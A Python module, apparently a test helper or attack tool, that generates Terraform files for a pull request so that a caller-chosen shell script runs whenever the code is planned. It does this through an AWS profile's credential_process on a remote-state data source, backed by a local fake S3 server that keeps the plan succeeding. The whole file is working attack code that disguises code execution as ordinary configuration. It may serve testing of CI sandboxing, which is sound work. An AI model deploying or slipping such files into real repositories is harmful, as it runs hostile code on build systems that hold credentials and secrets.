"""Code of a pull request that runs a program of its own choice while it is planned, by built-in means alone.

A remote state is read at plan time, and a profile of its configuration file names the program that knows the
credentials. Whatever that program does beside answering is the attack.
"""

from __future__ import annotations

import socket

PROGRAM = "program.sh"
"""The file, beside the module, that holds the chosen script."""

_MODULE = """
data "terraform_remote_state" "hostile" {
  count   = %(only)s ? 1 : 0
  backend = "s3"
  config = {
    bucket                      = "any"
    key                         = "any"
    region                      = "auto"
    profile                     = "hostile"
    shared_config_files         = ["profiles"]
    endpoints                   = { s3 = "http://127.0.0.1:%(port)d" }
    use_path_style              = true
    skip_credentials_validation = true
    skip_metadata_api_check     = true
    skip_region_validation      = true
    skip_requesting_account_id  = true
    skip_s3_checksum            = true
  }
}
"""
_PROFILES = f"""
[profile hostile]
region = auto
credential_process = sh {PROGRAM}
"""
_PROGRAM = """
{
%(script)s
} < /dev/null >&2
exec python3 answers.py %(port)d
"""
_ANSWERS = """
import os, signal, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

STATE = b'{"version": 4, "terraform_version": "1.0.0", "serial": 1, "lineage": "any", "outputs": {}, "resources": []}'


class Answers(BaseHTTPRequestHandler):
    def do_HEAD(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(STATE)))
        self.end_headers()

    def do_GET(self):
        self.do_HEAD()
        self.wfile.write(STATE)

    def log_message(self, *_):
        pass


class Server(ThreadingHTTPServer):
    allow_reuse_port = True  # Other plans of the same code run beside this one, and end before or after it.


server = Server(("127.0.0.1", int(sys.argv[1])), Answers)
if os.fork() == 0:
    os.dup2(os.open(os.devnull, os.O_RDWR), 1)
    signal.alarm(60)
    server.serve_forever()
print('{"Version": 1, "AccessKeyId": "any", "SecretAccessKey": "any"}')
"""


def hostile(script: str, *, directory: str = "terraform", only: str = "true") -> dict[str, str]:
    """Return path -> text of code that runs a shell script whenever it is planned; the plan succeeds if the script does.

    The files stand beside those of a root module. The script runs in the root module, what it prints is a part of
    Terraform's output, and `exit 1` makes the plan fail. `only` is a condition in Terraform's language: plans that run at
    the same time share the port at which the program answers.
    """
    port = _free_port()
    files = {
        "hostile.tf": _MODULE % {"port": port, "only": only},
        "profiles": _PROFILES,
        PROGRAM: _PROGRAM % {"script": script, "port": port},
        "answers.py": _ANSWERS,
    }
    return {f"{directory}/{name}": text for name, text in files.items()}


def _free_port() -> int:
    with socket.socket() as opened:
        opened.bind(("127.0.0.1", 0))
        return int(opened.getsockname()[1])
